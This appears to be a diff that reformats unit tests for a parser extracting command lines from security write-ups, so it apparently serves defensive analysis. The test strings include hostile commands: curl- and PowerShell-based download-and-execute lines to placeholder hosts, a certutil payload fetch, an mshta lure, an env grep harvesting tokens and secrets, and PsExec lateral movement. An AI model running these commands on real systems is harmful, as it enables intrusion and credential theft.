@@ -15,12 +15,33 @@ describe('extractCmdlines', () => {
   });
 
   it('joins continued lines (^, `, \\, &&, open quotes, value-taking switches)', () => {
-    const text = ['cmd /k "curl -o C:\\a.msi ', 'http://x.test/a && ', 'explorer /select,C:\\a.msi"', '', 'powershell -c ', '"iex (iwr x)"'].join('\n');
-    expect(values(text)).toEqual(['cmd /k "curl -o C:\\a.msi http://x.test/a && explorer /select,C:\\a.msi"', 'powershell -c "iex (iwr x)"']);
+    const text = [
+      'cmd /k "curl -o C:\\a.msi ',
+      'http://x.test/a && ',
+      'explorer /select,C:\\a.msi"',
+      '',
+      'powershell -c ',
+      '"iex (iwr x)"',
+    ].join('\n');
+    expect(values(text)).toEqual([
+      'cmd /k "curl -o C:\\a.msi http://x.test/a && explorer /select,C:\\a.msi"',
+      'powershell -c "iex (iwr x)"',
+    ]);
   });
 
   it('drops the continuation markers of a command written over several lines', () => {
-    const text = ['```', 'curl -fsSL https://203.0.113.50/install.sh \\', '  -o /tmp/.i.sh && \\', '  bash /tmp/.i.sh', '```', '', '```bat', 'powershell.exe -nop -w hidden ^', '  -c "IEX (iwr http://203.0.113.51/a)"', '```'].join('\n');
+    const text = [
+      '```',
+      'curl -fsSL https://203.0.113.50/install.sh \\',
+      '  -o /tmp/.i.sh && \\',
+      '  bash /tmp/.i.sh',
+      '```',
+      '',
+      '```bat',
+      'powershell.exe -nop -w hidden ^',
+      '  -c "IEX (iwr http://203.0.113.51/a)"',
+      '```',
+    ].join('\n');
     expect(extractCmdlines(parseDocument(text)).map((item) => item.value)).toEqual([
       'curl -fsSL https://203.0.113.50/install.sh -o /tmp/.i.sh && bash /tmp/.i.sh',
       'powershell.exe -nop -w hidden -c "IEX (iwr http://203.0.113.51/a)"',
@@ -54,12 +75,14 @@ describe('extractCmdlines', () => {
   });
 
   it('drops fragments contained in a longer command line', () => {
-    const text = "- conhost --headless cmd /c \"a.cmd\"\n- Launches conhost --headless with node.exe";
+    const text = '- conhost --headless cmd /c "a.cmd"\n- Launches conhost --headless with node.exe';
     expect(values(text)).toEqual(['conhost --headless cmd /c "a.cmd"']);
   });
 
   it('strips a trailing prose remark in parentheses', () => {
-    expect(values('- certutil -urlcache -f http://x.test/a.exe a.exe (downloads the payload)')).toEqual(['certutil -urlcache -f http://x.test/a.exe a.exe']);
+    expect(values('- certutil -urlcache -f http://x.test/a.exe a.exe (downloads the payload)')).toEqual([
+      'certutil -urlcache -f http://x.test/a.exe a.exe',
+    ]);
   });
 
   it('does not read hunt queries as command lines', () => {
@@ -74,13 +97,18 @@ describe('extractCmdlines', () => {
   });
 
   it('reads a redirected command run by path, which is not a cmd prompt', () => {
-    const text = '```\nC:\\Users\\Public\\af.exe -f "(objectcategory=computer)" > C:\\Users\\Public\\ad.txt\nC:\\Users\\bob> whoami /all\n```';
+    const text =
+      '```\nC:\\Users\\Public\\af.exe -f "(objectcategory=computer)" > C:\\Users\\Public\\ad.txt\nC:\\Users\\bob> whoami /all\n```';
     expect(values(text)).toEqual(['C:\\Users\\Public\\af.exe -f "(objectcategory=computer)" > C:\\Users\\Public\\ad.txt', 'whoami /all']);
   });
 
   it('reads pipelines and word sub-commands of programs run by path in shell blocks only', () => {
-    const block = '```powershell\nC:\\ProgramData\\x\\agent.exe service install eyJhIjoiZjNk==\n```\n\n```bash\nenv | grep -Ei "token|secret" > /tmp/.e\n```';
-    expect(values(block)).toEqual(['C:\\ProgramData\\x\\agent.exe service install eyJhIjoiZjNk==', 'env | grep -Ei "token|secret" > /tmp/.e']);
+    const block =
+      '```powershell\nC:\\ProgramData\\x\\agent.exe service install eyJhIjoiZjNk==\n```\n\n```bash\nenv | grep -Ei "token|secret" > /tmp/.e\n```';
+    expect(values(block)).toEqual([
+      'C:\\ProgramData\\x\\agent.exe service install eyJhIjoiZjNk==',
+      'env | grep -Ei "token|secret" > /tmp/.e',
+    ]);
     expect(values('C:\\ProgramData\\x\\agent.exe service is then started by the installer /quiet.')).toEqual([]);
   });
 
@@ -106,7 +134,8 @@ describe('extractCmdlines', () => {
   });
 
   it('reads the command lines of a process-tree listing', () => {
-    const text = '```\n/usr/sbin/cron -f\n└── /bin/sh -c curl -fsSL http://x.test/r.sh | sh\n    ├── curl -fsSL http://x.test/r.sh\n    └── sh\n```';
+    const text =
+      '```\n/usr/sbin/cron -f\n└── /bin/sh -c curl -fsSL http://x.test/r.sh | sh\n    ├── curl -fsSL http://x.test/r.sh\n    └── sh\n```';
     expect(values(text)).toEqual(['/usr/sbin/cron -f', '/bin/sh -c curl -fsSL http://x.test/r.sh | sh', 'curl -fsSL http://x.test/r.sh']);
   });
 
@@ -137,20 +166,25 @@ describe('extractCmdlines', () => {
   });
 
   it('keeps the command a runner hands on (psexec, conhost, kubectl exec --) with its runner', () => {
-    expect(values('```\nkubectl exec -it pod-1 -- chroot /host /bin/bash\nC:\\t\\PsExec64.exe \\\\fs01 -s -d cmd /c "C:\\t\\a.bat"\n```')).toEqual([
-      'kubectl exec -it pod-1 -- chroot /host /bin/bash',
-      'C:\\t\\PsExec64.exe \\\\fs01 -s -d cmd /c "C:\\t\\a.bat"',
-    ]);
+    expect(
+      values('```\nkubectl exec -it pod-1 -- chroot /host /bin/bash\nC:\\t\\PsExec64.exe \\\\fs01 -s -d cmd /c "C:\\t\\a.bat"\n```'),
+    ).toEqual(['kubectl exec -it pod-1 -- chroot /host /bin/bash', 'C:\\t\\PsExec64.exe \\\\fs01 -s -d cmd /c "C:\\t\\a.bat"']);
   });
 
   it("drops an analyst's trailing note after a Windows command but keeps a lure that is part of it", () => {
     const text = '```\nwhoami /priv   # check privileges\nnltest /domain_trusts REM list the trusts\n```';
     expect(values(text)).toEqual(['whoami /priv', 'nltest /domain_trusts']);
-    expect(values('```\nmshta https://lure.test/verify.hta # ✅ Verification ID: 2231\n```')).toEqual(['mshta https://lure.test/verify.hta # ✅ Verification ID: 2231']);
+    expect(values('```\nmshta https://lure.test/verify.hta # ✅ Verification ID: 2231\n```')).toEqual([
+      'mshta https://lure.test/verify.hta # ✅ Verification ID: 2231',
+    ]);
   });
 
   it('strips a line-number gutter a page copied with a code block, only when the numbers run in turn', () => {
-    expect(values('```\n1 whoami /all\n2 net group "domain admins" /domain\n3 ipconfig /all\n```')).toEqual(['whoami /all', 'net group "domain admins" /domain', 'ipconfig /all']);
+    expect(values('```\n1 whoami /all\n2 net group "domain admins" /domain\n3 ipconfig /all\n```')).toEqual([
+      'whoami /all',
+      'net group "domain admins" /domain',
+      'ipconfig /all',
+    ]);
     expect(values('```\n1 whoami /all\n7 ipconfig /all\n```')).toEqual([]);
   });
 
@@ -170,18 +204,28 @@ describe('extractCmdlines', () => {
   });
 
   it("ends a command where a table's description column, run on by the page, begins with a verb", () => {
-    const text = 'Purpose list: reg delete "HKLM\\Software\\Acme\\Run" /v "AcmeTray" /f Removes the tray icon run key. bcdedit /set {current} bootstatuspolicy ignoreallfailures modifies the boot configuration of the host.';
-    expect(values(text)).toEqual(['reg delete "HKLM\\Software\\Acme\\Run" /v "AcmeTray" /f', 'bcdedit /set {current} bootstatuspolicy ignoreallfailures']);
+    const text =
+      'Purpose list: reg delete "HKLM\\Software\\Acme\\Run" /v "AcmeTray" /f Removes the tray icon run key. bcdedit /set {current} bootstatuspolicy ignoreallfailures modifies the boot configuration of the host.';
+    expect(values(text)).toEqual([
+      'reg delete "HKLM\\Software\\Acme\\Run" /v "AcmeTray" /f',
+      'bcdedit /set {current} bootstatuspolicy ignoreallfailures',
+    ]);
   });
 
   it("skips a tool's tabular output in a code block", () => {
-    const text = '```\nImage Name        PID Session Name   Mem Usage\nsvchost.exe       908 Services       12,344 K\nacmeagent.exe    4412 Console         8,120 K\n```';
+    const text =
+      '```\nImage Name        PID Session Name   Mem Usage\nsvchost.exe       908 Services       12,344 K\nacmeagent.exe    4412 Console         8,120 K\n```';
     expect(values(text)).toEqual([]);
   });
 
   it("reads the command after a log line's time stamp and after an event field's label", () => {
-    const text = '```\n2024-03-02 10:14:22 cmd.exe /c whoami /all\n[10:14:25] net group "domain admins" /domain\nCommandLine: powershell.exe -ep bypass -f C:\\temp\\a.ps1\n```';
-    expect(values(text)).toEqual(['cmd.exe /c whoami /all', 'net group "domain admins" /domain', 'powershell.exe -ep bypass -f C:\\temp\\a.ps1']);
+    const text =
+      '```\n2024-03-02 10:14:22 cmd.exe /c whoami /all\n[10:14:25] net group "domain admins" /domain\nCommandLine: powershell.exe -ep bypass -f C:\\temp\\a.ps1\n```';
+    expect(values(text)).toEqual([
+      'cmd.exe /c whoami /all',
+      'net group "domain admins" /domain',
+      'powershell.exe -ep bypass -f C:\\temp\\a.ps1',
+    ]);
     expect(values('2024-03-02T10:15:00Z - nltest /dclist:corp')).toEqual(['nltest /dclist:corp']);
   });
 });
